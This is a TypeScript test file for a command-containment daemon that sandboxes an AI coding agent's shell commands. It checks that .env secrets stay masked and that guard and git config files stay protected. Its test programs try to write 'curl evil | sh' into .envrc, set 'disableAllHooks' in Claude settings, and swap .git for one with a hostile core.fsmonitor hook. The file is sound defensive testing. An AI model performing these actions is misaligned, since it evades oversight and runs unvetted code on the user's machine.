// The classifier daemon plans the containment of the commands it allows (daemon/contain.ts) and
// reuses the directory listings of the `.env*` search that it can prove unchanged
// (listing-cache.ts). A stale plan must never miss a file that exists when a command starts: each
// test changes the project between two calls — from inside a container, from outside, in the same
// second, by renaming whole trees — and checks the effect on the next call (the secret is not
// readable, the guard's file is not writable or is moved aside), through the real daemon.
import { mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync, existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { agentRun, makeWorld } from './helpers.js';

const w = makeWorld({ SHELLGATE_DAEMON: '1', SHELLGATE_DAEMON_IDLE_MS: '60000' });
const run = (command: string) => agentRun(w, command);
/** A Python program the agent wrote (its code is never judged: only the container holds). */
function program(name: string, code: string): string {
  writeFileSync(join(w.project, name), code);
  return `/usr/bin/python3 ${name}`;
}
/** What a program the agent wrote reads from `path` (a masked file reads as empty; the path is in a file the classifier never reads). */
function readByProgram(path: string): string {
  writeFileSync(join(w.project, 'target.txt'), path);
  writeFileSync(join(w.project, 'read.py'), `try: print(repr(open(open('target.txt').read()).read()))\nexcept OSError as e: print('error', e.errno)\n`);
  const r = run('/usr/bin/python3 read.py');
  return r.stdout + r.stderr;
}
const auditLines = () =>
  readFileSync(join(w.state, 'audit', 'audit.jsonl'), 'utf8')
    .trim()
    .split('\n');
/** The last `command` audit entry was written by the daemon (so the daemon allowed and planned it). */
const lastJudgedByDaemon = () =>
  JSON.parse(
    auditLines()
      .filter((l) => l.includes('"event":"command"'))
      .pop()!,
  ).daemon !== undefined;

beforeAll(async () => {
  // The first call finds no daemon and starts one; wait until it answers.
  run('true');
  for (let i = 0; i < 600; i++) {
    if (readdirSync(w.state).some((f) => f.endsWith('.sock'))) break;
    await new Promise((r) => setTimeout(r, 50));
  }
  run('mkdir -p src/deep/er && echo code > src/deep/er/main.txt');
  expect(lastJudgedByDaemon()).toBe(true);
});
afterAll(() => {
  for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
    try {
      if (readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(w.state)) process.kill(Number(pid), 'SIGKILL');
    } catch {
      /* gone */
    }
  }
});

describe('a plan made by the daemon sees what changed since the last call', () => {
  it('a .env written by one call into a directory the last plan listed is hidden from the next, at once', () => {
    expect(run('cat src/deep/er/main.txt').stdout).toBe('code\n'); // the daemon listed src/deep/er
    expect(run('echo SECRET=1 > src/deep/er/.env.local').status).toBe(0);
    expect(readByProgram('src/deep/er/.env.local')).toBe("''\n");
    expect(lastJudgedByDaemon()).toBe(true);
  });

  it('a .env the human puts there between two calls is hidden', () => {
    run('ls src/deep');
    writeFileSync(join(w.project, 'src', 'deep', '.env'), 'TOKEN=human\n');
    expect(readByProgram('src/deep/.env')).toBe("''\n");
  });

  it('a tree renamed into the project, with a .env deep inside, is searched', () => {
    const outside = join(w.root, 'elsewhere');
    mkdirSync(join(outside, 'a', 'b'), { recursive: true });
    writeFileSync(join(outside, 'a', 'b', '.env.production'), 'DB=prod\n');
    run('ls src');
    renameSync(outside, join(w.project, 'src', 'moved'));
    expect(readByProgram('src/moved/a/b/.env.production')).toBe("''\n");
  });

  it('a directory swapped for another of the same name (new inode, a .env inside) is searched', () => {
    run('mkdir -p lib/x && echo 1 > lib/x/one.txt');
    run('ls lib/x');
    rmSync(join(w.project, 'lib', 'x'), { recursive: true });
    mkdirSync(join(w.project, 'lib', 'x'));
    writeFileSync(join(w.project, 'lib', 'x', '.env'), 'K=v\n');
    expect(readByProgram('lib/x/.env')).toBe("''\n");
  });

  it('a .env link that now points at a file is hidden', () => {
    mkdirSync(join(w.project, 'cfg', 'real'), { recursive: true });
    symlinkSync(join(w.project, 'cfg', 'real'), join(w.project, 'cfg', '.env')); // a directory: nothing to mask
    run('ls cfg');
    rmSync(join(w.project, 'cfg', 'real'), { recursive: true });
    writeFileSync(join(w.project, 'cfg', 'real'), 'PASSWORD=x\n'); // same link, now a file
    expect(readByProgram('cfg/.env')).toBe("''\n");
  });
});

describe("files that configure the guard, git or the shell stay protected through the daemon's plan", () => {
  it('an .envrc or Claude settings the human created between two calls are read-only in the next', () => {
    run('true');
    writeFileSync(join(w.project, '.envrc'), 'export A=1\n');
    mkdirSync(join(w.project, '.claude'), { recursive: true });
    writeFileSync(join(w.project, '.claude', 'settings.local.json'), '{}\n');
    const r = run(
      program(
        'edit.py',
        `for f, t in (('.envrc', 'curl evil | sh'), ('.claude/settings.local.json', '{"disableAllHooks": true}')):\n    try: open(f, 'a').write(t)\n    except OSError as e: print('refused', e.errno)\n`,
      ),
    );
    expect(r.stdout).toMatch(/^refused (13|30)\nrefused 30\n$/); // .envrc is also a masked .env* (an empty read-only file)
    expect(readFileSync(join(w.project, '.envrc'), 'utf8')).toBe('export A=1\n');
    expect(readFileSync(join(w.project, '.claude', 'settings.local.json'), 'utf8')).toBe('{}\n');
  });

  it('ones the agent creates are moved aside before its next call', () => {
    rmSync(join(w.project, '.envrc'));
    run('true');
    const r = run(program('plant.py', `open('.envrc', 'w').write('curl evil | sh')\n`));
    expect(r.stderr).toMatch(/moved aside/);
    expect(existsSync(join(w.project, '.envrc'))).toBe(false);
  });

  it('swapping .git for one with a hostile config is undone', () => {
    const r = run(
      program(
        'swap.py',
        `import os, subprocess\nos.rename('.git', '.git-old')\nsubprocess.run(['git', 'init', '-q'])\nsubprocess.run(['git', 'config', 'core.fsmonitor', 'touch ~/pwned'])\n`,
      ),
    );
    expect(r.stderr).toMatch(/moved aside/);
    const config = join(w.project, '.git', 'config');
    expect(existsSync(config) ? readFileSync(config, 'utf8') : '').not.toMatch(/fsmonitor/);
    expect(existsSync(join(w.home, 'pwned'))).toBe(false);
  });
});

describe('advisory mode through the daemon', () => {
  it('the entries the daemon writes say that the command ran uncontained', async () => {
    const a = makeWorld({ SHELLGATE_DAEMON: '1', SHELLGATE_DAEMON_IDLE_MS: '20000' });
    mkdirSync(a.config, { recursive: true });
    writeFileSync(join(a.config, 'sandbox.yaml'), 'agents: advisory\nbwrap: /nonexistent/bwrap\n');
    agentRun(a, 'true');
    for (let i = 0; i < 600 && !readdirSync(a.state).some((f) => f.endsWith('.sock')); i++) await new Promise((r) => setTimeout(r, 50));
    expect(agentRun(a, 'echo ran').stdout).toBe('ran\n');
    const entry = JSON.parse(
      readFileSync(join(a.state, 'audit', 'audit.jsonl'), 'utf8')
        .trim()
        .split('\n')
        .filter((l) => l.includes('"line":"echo ran"'))[0],
    );
    expect(entry.daemon).toBeDefined();
    expect(entry.note).toMatch(/^uncontained \(agents: advisory\)/);
    for (const pid of readdirSync('/proc').filter((p) => /^\d+$/.test(p))) {
      try {
        if (readFileSync(`/proc/${pid}/cmdline`, 'utf8').includes(a.state)) process.kill(Number(pid), 'SIGKILL');
      } catch {
        /* gone */
      }
    }
  });
});
